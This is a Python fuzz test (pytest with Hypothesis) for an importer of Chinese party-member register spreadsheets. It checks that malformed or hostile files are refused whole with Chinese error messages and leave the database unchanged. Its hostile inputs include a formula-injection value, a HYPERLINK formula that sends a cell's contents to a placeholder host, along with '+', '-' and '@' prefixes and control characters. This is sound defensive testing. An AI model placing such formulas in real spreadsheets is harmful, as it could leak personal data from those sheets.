"""Generated member registers, valid-ish and hostile: every one is imported or refused with the
importer's Chinese list of problems; none raises, and a refused file writes nothing."""

import re
from io import BytesIO

import pytest
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st

from dangjian.accounts.access import access_for
from dangjian.members import importing
from dangjian.members.importing import HEADERS
from dangjian.members.models import Member, Transfer

from .sheets import Date, Error, Number, cells, raw_xlsx, row, valid_id

# Bounded for CI: a fixed sequence of examples (derandomize), a few seconds in all.
FUZZ = settings(
    max_examples=60,
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
CHINESE = re.compile(r"[\u4e00-\u9fff]")

PLAUSIBLE = st.sampled_from(
    ["王小明", "阿依古丽·买买提", "男", "女", "汉族", "回族", "2005-07-01", "2020/7/1", "1980年1月1日"]
    + ["13800000000", "大学本科", "正式党员", "预备党员", "正常", "流动党员", "BRA", "BRA-G1", "BRB", "TOWN"]
    + ["是", "否", ""]
)
CONTROLS = st.sampled_from(["\x00", "\x1b", "\x0b", "\x13", "\x7f", "\u202e", "\ud800", "\uffff", "\n", "\t"])
HOSTILE_TEXT = st.one_of(
    st.text(max_size=30),
    st.lists(st.one_of(st.characters(max_codepoint=0x3000), CONTROLS), max_size=12).map("".join),
    st.sampled_from(['=HYPERLINK("http://x/?"&B2,"王")', "+1", "-1", "@SUM(A1)", "1.1010119800101E+17"]),
    st.integers(40, 400).map(lambda n: "张" * n),
)
CELL = st.one_of(
    st.none(),
    PLAUSIBLE,
    HOSTILE_TEXT,
    st.integers(-(10**20), 10**20).map(lambda n: Number(str(n))),
    st.floats().map(lambda f: Number(repr(f))),
    st.sampled_from(["2958466", "-700000", "1E10", "1e400", "-inf", "NaN", "45000.5", "0", "abc"]).map(Date),
    st.sampled_from(["#N/A", "#REF!", "#VALUE!", "#DIV/0!", "#NAME?"]).map(Error),
    st.booleans(),
)


@st.composite
def registers(draw) -> bytes:
    headers = list(HEADERS)
    if draw(st.integers(0, 9)) == 0:  # now and then a repeated or unknown header
        headers[draw(st.integers(0, len(headers) - 1))] = draw(st.sampled_from([*HEADERS, "备注", ""]))
    refs = draw(st.integers(0, 5)) > 0
    lines = [cells(1, headers, refs)]
    for n in range(2, 2 + draw(st.integers(0, 4))):
        seq = draw(st.integers(1, 3))  # repeats make duplicates and re-imports
        values = row(身份证号=valid_id(seq=seq))
        hostile = draw(st.sampled_from([0, 0, 0, 1, 1, 2, 4]))  # mostly good rows, some of them bad
        values.update(
            draw(st.dictionaries(st.sampled_from(HEADERS), CELL, min_size=hostile, max_size=hostile))
        )
        items = [values.get(h, "") for h in headers]
        if draw(st.integers(0, 9)) == 0:  # a value beyond the template, near or far
            items = [(f"{chr(65 + i)}{n}", v) for i, v in enumerate(items)] + [
                (draw(st.sampled_from(["Q", "AB", "XFD", "AAAAAAA"])) + str(n), "x")
            ]
        lines.append(cells(n, items, refs))
    return raw_xlsx(("党员名册", lines))


def _counts() -> tuple[int, int, int]:
    return Member.objects.count(), Member.history.count(), Transfer.objects.count()


@pytest.mark.django_db
@FUZZ
@given(content=registers())
def test_generated_registers_import_or_are_refused_whole(world, content):
    scope = access_for(world.user("secretary_a")).manageable_orgs()
    before = _counts()
    try:
        result = importing.import_members(BytesIO(content), scope)
    except importing.ImportRefused as refused:
        event("refused")
        assert _counts() == before  # nothing half-written
        assert refused.problems
        for problem in refused.problems:
            shown = str(problem)
            assert CHINESE.search(problem.message), shown
            shown.encode("utf-8")  # printable on a terminal and a page
    else:
        event("imported")
        assert Member.objects.count() == before[0] + result.created
